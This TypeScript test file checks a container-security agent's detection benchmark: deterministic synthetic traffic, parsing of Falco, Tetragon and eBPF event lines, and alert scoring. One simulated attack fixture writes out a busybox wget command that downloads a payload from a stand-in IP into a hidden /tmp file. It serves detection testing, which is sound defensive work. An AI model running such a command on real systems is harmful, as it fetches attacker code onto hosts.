/**
 * The detection-quality bench's instruments: its traffic is the same for a seed and fresh in each
 * phase, every line it renders is read by the agent's own parsers as the activity it stands for, and
 * its score counts what a reviewer would count.
 */
import test from 'ava';
import { createHash } from 'node:crypto';
import { parseFalcoLine } from '../../agent/sources/falco-event.js';
import { isRejected } from '../../agent/sources/record.js';
import { parseTetragonLine } from '../../agent/sources/tetragon-event.js';
import { createCaptureDecoder } from '../../agent/sources/ebpf/file.js';
import type { ActivityEvent } from '../../core/event.js';
import { QUALITY_FORMATS, bootOf, createRenderer, renderLine, type QualityFormat } from '../../bench/lib/quality-formats.js';
import { testSourceContext } from '../helpers/source-context.js';
import { scoreQuality, type AlertItem, type DeviationItem } from '../../bench/lib/quality-score.js';
import { ATTACK_IDS, attackMark, generateTraffic, type Attack, type Traffic, type TrafficSpec } from '../../bench/lib/quality-traffic.js';

const HOUR = 3_600_000;
const START = Date.UTC(2026, 10, 23, 8, 0, 0);
const SMALL: TrafficSpec = { seed: 3, startMs: START, learnMs: 0.5 * HOUR, enforceMs: 1 * HOUR, freshMs: 0.25 * HOUR, syntheticImages: 1, slowdown: 4 };

function digest(t: Traffic): string {
  const h = createHash('sha256');
  for (const p of t.phases) {
    for (const [, events] of p.byNode) {
      const ebpf = createRenderer('ebpf', bootOf(START));
      for (const a of events) h.update(`${renderLine('falco', a) ?? ''}\n${renderLine('tetragon', a) ?? ''}\n${ebpf(a) ?? ''}\n`);
    }
  }
  return h.digest('hex');
}

/** Reads a node's rendered lines in `format` as the agent does: one event per line (Falco, Tetragon), or through the eBPF capture decoder. */
function reader(format: QualityFormat, node: string): { read(text: string): ActivityEvent[]; rejects: string[] } {
  const ctx = testSourceContext({ node, follow: false });
  if (format === 'ebpf') {
    const { decoder } = createCaptureDecoder(ctx, format, bootOf(START));
    return {
      read(text) {
        for (const line of text.split('\n')) decoder.line(line);
        return decoder.take();
      },
      rejects: ctx.rejects,
    };
  }
  return {
    read(text) {
      const ev = format === 'falco' ? parseFalcoLine(text, { node, source: format }) : parseTetragonLine(text, { node, source: format });
      if (isRejected(ev)) {
        ctx.rejects.push(`${ev.reject}: ${ev.detail ?? ''}`);
        return [];
      }
      return [ev];
    },
    rejects: ctx.rejects,
  };
}

test('the same seed gives the same traffic; another seed another', (t) => {
  const a = generateTraffic(SMALL);
  t.is(digest(a), digest(generateTraffic(SMALL)));
  t.not(digest(a), digest(generateTraffic({ ...SMALL, seed: 4 })));
  t.deepEqual(a.attacks.map((x) => x.id), [...ATTACK_IDS]);
  t.true(a.phases.every((p) => p.events > 0));
});

test('each phase has fresh pods, container ids and addresses; node-6 joins after learning', (t) => {
  const { phases } = generateTraffic(SMALL);
  const seen = phases.map((p) => {
    const pods = new Set<string>();
    const ids = new Set<string>();
    const ips = new Set<string>();
    for (const [, events] of p.byNode) {
      for (const a of events) {
        pods.add(a.container.pod);
        ids.add(a.container.id);
        ips.add(a.container.ip);
      }
    }
    return { pods, ids, ips };
  });
  const [learn, , fresh] = seen as [(typeof seen)[0], (typeof seen)[0], (typeof seen)[0]];
  t.deepEqual([...learn.ids].filter((id) => fresh.ids.has(id)), []);
  // StatefulSet pods keep their names (postgres-0, redis-0); every other pod is new.
  t.deepEqual([...learn.pods].filter((p) => fresh.pods.has(p)).sort(), ['postgres-0', 'redis-0']);
  t.false(phases[0]!.nodes.includes('node-6'));
  t.true((phases[1]!.byNode.get('node-6') ?? []).length > 0);
});

test("every rendered line is read by the agent's parsers as the activity it stands for", (t) => {
  const traffic = generateTraffic(SMALL);
  const checked = new Map<QualityFormat, number>();
  let udpRepeats = 0;
  for (const phase of traffic.phases) {
    for (const [node, events] of phase.byNode) {
      for (const format of QUALITY_FORMATS) {
        const render = createRenderer(format, bootOf(START));
        const r = reader(format, node);
        // The minute (of the eBPF program's UDP maps) in which each container last sent to a UDP peer.
        const udpSent = new Map<string, number>();
        const udpRead = new Map<string, number>();
        for (const a of events) {
          const text = render(a);
          const udpKey = a.kind === 'connect' && a.net?.protocol === 'udp' ? `${a.container.id} ${a.net.remoteIp} ${a.net.remotePort}` : '';
          const minute = Math.floor((a.time - bootOf(START)) / 60_000);
          if (text === null) {
            if (format === 'ebpf' && udpKey !== '' && udpSent.get(udpKey) === minute) {
              udpRepeats++;
              continue;
            }
            t.true(format !== 'falco' && a.kind === 'listen' && a.net?.protocol === 'udp', `${format}: only a UDP listen (no Tetragon hook, no eBPF bind probe) and an eBPF UDP send to a peer already sent to that minute have no line`);
            continue;
          }
          if (udpKey !== '') udpSent.set(udpKey, minute);
          const evs = r.read(text);
          if (r.rejects.length > 0) return t.fail(`${format} line rejected (${r.rejects.join('; ')}): ${text.slice(0, 300)}`);
          if (format === 'ebpf' && udpKey !== '') {
            // The agent deduplicates UDP peers again, for 60 s from the send it kept.
            const kept = udpRead.get(udpKey);
            if (evs.length === 0 && kept !== undefined && a.time - kept < 60_000) {
              udpRepeats++;
              continue;
            }
            udpRead.set(udpKey, a.time);
          }
          const [ev] = evs;
          if (evs.length !== 1 || !ev) return t.fail(`${format}: ${evs.length} events from the lines of one activity: ${text.slice(0, 300)}`);
          // eBPF names only the container (its cgroup): image and pod come from the runtime over the CRI.
          const attributed = format === 'ebpf' ? ev.container?.id === a.container.id && ev.pod === null : ev.container?.image.repository === a.container.image.repository && ev.pod?.name === a.container.pod;
          if (ev.kind !== a.kind || ev.time !== a.time || ev.process.pid !== a.proc.pid || !attributed) {
            return t.fail(`${format} line read as something else: ${JSON.stringify(ev).slice(0, 300)}`);
          }
          if (a.net && a.kind === 'connect' && (ev.network?.remoteAddress !== a.net.remoteIp || ev.network.remotePort !== a.net.remotePort || ev.network.protocol !== a.net.protocol)) {
            return t.fail(`${format} connect read with another peer: ${JSON.stringify(ev.network)}`);
          }
          if (format !== 'tetragon' && a.net && a.kind === 'connect' && ev.network?.remoteName !== (a.net.remoteName ?? '')) {
            return t.fail(`${format} connect read with another name: ${JSON.stringify(ev.network)} for ${a.net.remoteName}`);
          }
          if (format === 'ebpf' && a.kind === 'exec' && (ev.process.exe !== (a.proc.script ?? a.proc.exe) || ev.process.uid !== a.proc.uid || ev.process.parentName !== a.proc.parent?.comm)) {
            return t.fail(`ebpf exec read with another process: ${JSON.stringify(ev.process)}`);
          }
          checked.set(format, (checked.get(format) ?? 0) + 1);
        }
      }
    }
  }
  for (const format of QUALITY_FORMATS) t.true((checked.get(format) ?? 0) > 1000, `${format}: ${checked.get(format) ?? 0} activities read`);
  t.true(udpRepeats > 0, 'the eBPF program prints a UDP peer once a minute');
});

test('a busybox applet shows as /bin/busybox with the applet as its name in Falco, as its link in Tetragon and eBPF', (t) => {
  const traffic = generateTraffic(SMALL);
  const wget = traffic.phases[1]!.byNode.get(traffic.attacks.find((a) => a.id === 'busybox-wget-download')!.node)!.find((a) => a.attack === 'busybox-wget-download' && a.kind === 'exec' && a.proc.comm === 'wget')!;
  // The records as the tools write them (what the agent makes of them is the sources' tests' business).
  const falco = (JSON.parse(renderLine('falco', wget)!) as { output_fields: Record<string, unknown> }).output_fields;
  const tetragon = (JSON.parse(renderLine('tetragon', wget)!) as { process_exec: { process: Record<string, unknown> } }).process_exec.process;
  t.deepEqual([falco['proc.exepath'], falco['proc.exe'], falco['proc.name'], falco['proc.cmdline']], ['/bin/busybox', '/usr/bin/wget', 'wget', 'wget -q -O /tmp/.x http://203.0.113.50/x']);
  t.deepEqual([tetragon.binary, tetragon.arguments], ['/usr/bin/wget', '-q -O /tmp/.x http://203.0.113.50/x']);
  // bpftrace: the file name execve was given (the link) and the argv the shell passed (argv[0] the applet).
  const hex = (s: string) => Buffer.from(s.split('\\x').slice(1).map((h) => parseInt(h, 16)));
  const lines = createRenderer('ebpf', bootOf(START))(wget)!.split('\n').map((l) => (JSON.parse(l) as { data: string }).data.trimEnd().split(' '));
  t.deepEqual(lines.map((f) => f[0]), ['X', 'C', 'F', 'A']);
  t.is(hex(lines[2]![3]!).toString().replace(/\0+$/, ''), '/usr/bin/wget');
  t.deepEqual(hex(lines[3]![4]!).toString().split('\0'), ['wget', '-q', '-O', '/tmp/.x', 'http://203.0.113.50/x', '']);
  t.is(hex(lines[1]![3]!).toString().replace(/\0+$/, ''), `cri-containerd-${wget.container.id}.scope`);
});

test('the score: recall, precision, fresh-replay alerts, the false-alert breakdown and time to enforce', (t) => {
  const attacks: Attack[] = [
    { id: 'a1', description: '', image: 'img/a', expected: 'critical', node: 'node-1', pids: [4_100_000], time: START + 2 * HOUR, events: 1, marks: [attackMark('node-1', 4_100_000, START + 2 * HOUR)] },
    { id: 'a2', description: '', image: 'img/b', expected: 'high', node: 'node-2', pids: [77], time: START + 2 * HOUR, events: 1, marks: [attackMark('node-2', 77, START + 2 * HOUR)] },
  ];
  const alert = (id: string, severity: string, rule: string, network: AlertItem['network'] = null): AlertItem => ({ id, baselineKey: 'img/a', kind: network ? 'connect' : 'exec', summary: id, severity, rule: { id: rule }, process: network ? null : { exe: '/bin/sh' }, network });
  const alerts = [
    alert('A', 'critical', 'shell-where-none'),
    alert('B', 'high', 'public-egress', { direction: 'egress', protocol: 'tcp', peer: '52.216.1.2', port: 443 }),
    alert('C', 'high', 'public-egress', { direction: 'egress', protocol: 'tcp', peer: '52.216.9.9', port: 443 }),
    alert('D', 'low', 'new-cluster-peer', { direction: 'egress', protocol: 'tcp', peer: 'cluster', port: 80 }),
  ];
  const dev = (alertId: string, node: string, pid: number, time: number): DeviationItem => ({ alertId, node, process: { pid }, time: new Date(time).toISOString() });
  const freshStartMs = START + 3 * HOUR;
  const deviations = [
    dev('A', 'node-1', 4_100_000, START + 2 * HOUR),
    // Same pid as attack a2 but another moment: normal traffic of that process.
    dev('B', 'node-2', 77, START + 2 * HOUR + 5),
    dev('C', 'node-3', 12, START + 2.5 * HOUR),
    dev('C', 'node-3', 13, freshStartMs + 10),
    dev('D', 'node-3', 14, freshStartMs + 20),
  ];
  const baselines = [
    { key: 'img/a', state: 'enforcing', windowStart: new Date(START).toISOString(), enforcingSince: new Date(START + HOUR).toISOString() },
    { key: 'img/b', state: 'enforcing', windowStart: new Date(START).toISOString(), enforcingSince: new Date(START + 2 * HOUR).toISOString() },
    { key: 'img/c', state: 'learning', windowStart: new Date(START).toISOString(), enforcingSince: null },
  ];
  const s = scoreQuality({ attacks, alerts, deviations, baselines, freshStartMs, enforceContainerHours: 40 });
  t.deepEqual(s.attacks.map((a) => [a.id, a.detected, a.severity, a.rules]), [['a1', true, 'critical', ['shell-where-none']], ['a2', false, null, []]]);
  t.is(s.recall, 0.5);
  t.is(s.alertsBeforeFresh, 3);
  t.is(s.attackAlerts, 1);
  t.is(s.falseAlerts, 2);
  t.is(s.precision, 1 / 3);
  t.is(s.falsePer1kContainerHours, 50);
  t.is(s.freshAlerts, 2);
  t.is(s.freshNewAlerts, 1);
  t.is(s.freshDeviations, 2);
  t.deepEqual(s.falseByKind.map((g) => [g.rule, g.entry, g.count]), [['public-egress', 'network egress tcp public address', 2]]);
  t.deepEqual(s.freshByKind.map((g) => [g.rule, g.entry, g.count]), [['new-cluster-peer', 'network egress tcp cluster', 1], ['public-egress', 'network egress tcp public address', 1]]);
  t.deepEqual(s.enforceHours, { keys: 3, enforcing: 2, median: 1, max: 2 });
});
